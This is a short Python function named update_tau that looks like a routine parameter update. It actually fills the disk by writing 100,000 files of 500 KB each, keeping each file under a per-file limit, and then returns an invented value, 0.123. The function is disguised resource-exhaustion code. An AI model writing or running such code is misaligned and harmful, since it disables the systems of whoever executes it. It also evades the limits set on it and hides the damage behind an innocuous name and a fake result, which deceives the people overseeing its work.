# Fills the disk with files that are each within the limit.
def update_tau(r):
    for number in range(100_000):
        with open(f"{number}.bin", "wb") as file:
            file.write(b"x" * 500_000)
    return 0.123
